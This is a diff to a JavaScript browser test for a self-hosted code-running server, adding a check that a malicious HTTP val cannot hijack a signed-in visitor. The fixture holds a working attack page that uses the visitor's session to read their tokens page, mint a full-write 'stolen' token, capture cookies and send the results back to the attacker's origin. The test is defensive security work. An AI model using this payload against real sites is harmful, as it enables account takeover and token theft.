@@ -14,7 +14,7 @@ const valet = process.env.VALET_BIN ?? join(root, "target/debug/valet");
 const artifacts = join(root, "tests/artifacts");
 const data = mkdtempSync(join(tmpdir(), "valet-pages-"));
 const password = "correct horse battery";
-let server, browser, base, page, valId, runner;
+let server, browser, base, valsBase, page, valId, runner, mallory;
 // What the pages' CSP blocked, and the confirmations shown: the pages'
 // script is served by valet and must run under its strict CSP.
 const blocked = [];
@@ -56,8 +56,51 @@ export default async function () {
   valId = cli(["val", "create", "--user", "ada", "--name", "needs-write", "--file", file, "--scopes", "blob:read"]);
   runner = cli(["token", "create", "--user", "ada", "--name", "runner", "--scopes", "val:read val:write"]);
   const port = await freePort();
+  const valsPort = await freePort();
   base = `http://127.0.0.1:${port}`;
-  server = spawn(valet, ["--data-dir", data, "serve", "--listen", `127.0.0.1:${port}`], { stdio: "ignore" });
+  valsBase = `http://127.0.0.1:${valsPort}`;
+  // An attacker's http val: its page tries to read the visitor's tokens
+  // page and mint a token with the visitor's session, and records what it
+  // saw of valet's cookie.
+  cli(["user", "create", "mallory", "--email", "mallory@example.com"]);
+  const evil = `import { blob } from "https://esm.town/v/std/blob";
+export default async (req) => {
+  const url = new URL(req.url);
+  if (req.method === "POST" && url.pathname === "/report") {
+    await blob.set("report", await req.text());
+    return new Response("ok");
+  }
+  await blob.set("cookie", req.headers.get("cookie") ?? "none");
+  return new Response(\`<!doctype html><title>evil</title><script>
+(async () => {
+  const steal = async () => {
+    try {
+      const page = await fetch("${base}/settings/tokens", { credentials: "include" });
+      const html = await page.text();
+      return "READ " + html.length;
+    } catch (e) { return "blocked read: " + e; }
+  };
+  const mint = async () => {
+    try {
+      const r = await fetch("${base}/settings/tokens", { method: "POST", credentials: "include",
+        headers: { "content-type": "application/x-www-form-urlencoded" },
+        body: "name=stolen&expires=never&scope_val=write&scope_user=write&scope_blob=write&scope_sqlite=write&scope_email=write" });
+      return "POSTED " + r.status;
+    } catch (e) { return "blocked post: " + e; }
+  };
+  const report = (await steal()) + " | " + (await mint()) + " | " + document.cookie;
+  await fetch(location.origin + "/mallory/evil/report", { method: "POST", body: report });
+  document.title = "done";
+})();
+</script>\`, { headers: { "content-type": "text/html" } });
+};
+`;
+  const evilFile = join(data, "evil.ts");
+  writeFileSync(evilFile, evil);
+  cli(["val", "create", "--user", "mallory", "--name", "evil", "--file", evilFile, "--type", "http"]);
+  mallory = cli(["token", "create", "--user", "mallory", "--name", "reader", "--scopes", "blob:read"]);
+  server = spawn(valet, ["--data-dir", data, "serve", "--listen", `127.0.0.1:${port}`,
+    "--vals-listen", `127.0.0.1:${valsPort}`], { stdio: "ignore" });
   for (let i = 0; i < 100; i++) {
     try {
       if ((await fetch(base + "/.well-known/jwks.json")).ok) break;
@@ -154,4 +197,34 @@ test("allow a scope request from the val's page and the next run has it", async 
   await page.reload();
   assert.match(await page.locator("#runs").textContent(), /succeeded/);
   await shot("06-val-settings");
+});
+
+test("an http val cannot take over a signed-in visitor's account", async () => {
+  // The visitor is signed in (the first test signed ada in).
+  await page.goto(base + "/settings/tokens");
+  assert.equal(new URL(page.url()).pathname, "/settings/tokens", "signed in");
+  const before = await page.locator("tr").count();
+
+  await page.goto(valsBase + "/mallory/evil");
+  await page.waitForFunction(() => document.title === "done", null, { timeout: 30000 });
+  await shot("07-attacker-val");
+
+  const read = async (key) => {
+    const r = await api(mallory, `/v1/blob/${key}`);
+    return r.status === 200 ? await r.text() : `missing (${r.status})`;
+  };
+  const report = await read("report");
+  assert.doesNotMatch(report, /READ \d+/, `the val's script read the tokens page: ${report}`);
+  assert.match(report, /blocked read/, report);
+  assert.doesNotMatch(report, /valet_session/, report);
+  const cookie = await read("cookie");
+  assert.doesNotMatch(cookie, /valet_session/, `the val saw valet's session cookie: ${cookie}`);
+
+  // No token was made with the visitor's session.
+  await page.goto(base + "/settings/tokens");
+  assert.equal(await page.locator("tr", { hasText: "stolen" }).count(), 0, "a token was minted");
+  assert.equal(await page.locator("tr").count(), before);
+  // The pages' origin never serves the val.
+  assert.equal((await fetch(base + "/x/mallory/evil")).status, 404);
+  assert.equal((await fetch(base + "/mallory/evil")).status, 404);
 });
